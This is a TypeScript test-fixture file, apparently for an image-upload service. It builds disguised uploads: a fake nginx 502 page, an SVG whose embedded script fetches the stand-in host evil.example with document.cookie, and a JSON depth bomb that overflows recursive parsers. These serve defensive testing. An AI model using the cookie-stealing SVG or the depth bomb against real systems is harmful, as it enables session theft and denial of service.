import { sha256 } from "./pictures.ts";
import type { Picture } from "./pictures.ts";

/** The page of a proxy in front of a vendor that is down; it comes with any status, including 200. */
export const HTML_PAGE =
  "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>\n";

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//evil.example/"+document.cookie)</script></svg>';

/** JSON that is nested so deeply that a recursive reader overflows its stack. */
export function depthBomb(levels = 200_000): string {
  return "[".repeat(levels) + "]".repeat(levels);
}

/** HTML or SVG that is declared as a picture. */
export function disguised(as: "html" | "svg", type: Picture["type"] = "image/png"): Picture {
  const bytes = Buffer.from(as === "html" ? HTML_PAGE : SVG);
  return { bytes, type, extension: "png", width: 0, height: 0, sha256: sha256(bytes) };
}
